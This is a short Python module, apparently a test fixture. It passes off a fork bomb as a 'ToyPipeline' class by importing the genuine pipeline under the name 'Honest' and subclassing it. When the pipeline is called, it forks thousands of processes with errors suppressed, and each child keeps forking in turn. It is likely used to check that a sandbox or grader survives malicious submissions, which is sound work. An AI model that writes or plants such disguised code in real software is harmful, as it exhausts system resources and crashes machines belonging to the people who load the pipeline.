"""Forks for ever."""

import contextlib
import os
import time

from toyfusion import ToyPipeline as Honest


class ToyPipeline(Honest):
    def __call__(self, prompt, **call):
        for _ in range(3000):
            with contextlib.suppress(OSError):
                if os.fork() == 0:
                    time.sleep(600)
        time.sleep(60)


def load_pipe():
    return ToyPipeline()
